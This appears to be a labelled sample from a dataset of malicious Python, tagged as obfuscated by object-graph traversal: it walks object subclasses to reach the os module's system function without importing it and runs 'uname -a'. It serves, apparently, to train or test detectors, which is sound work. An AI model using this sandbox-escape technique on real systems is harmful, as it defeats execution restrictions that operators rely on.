# label: malicious; obfuscated: object_graph; evasion: object_graph
for c in object.__subclasses__():
    if c.__name__ == "_wrap_close":
        c.__init__.__globals__["system"]("uname -a")
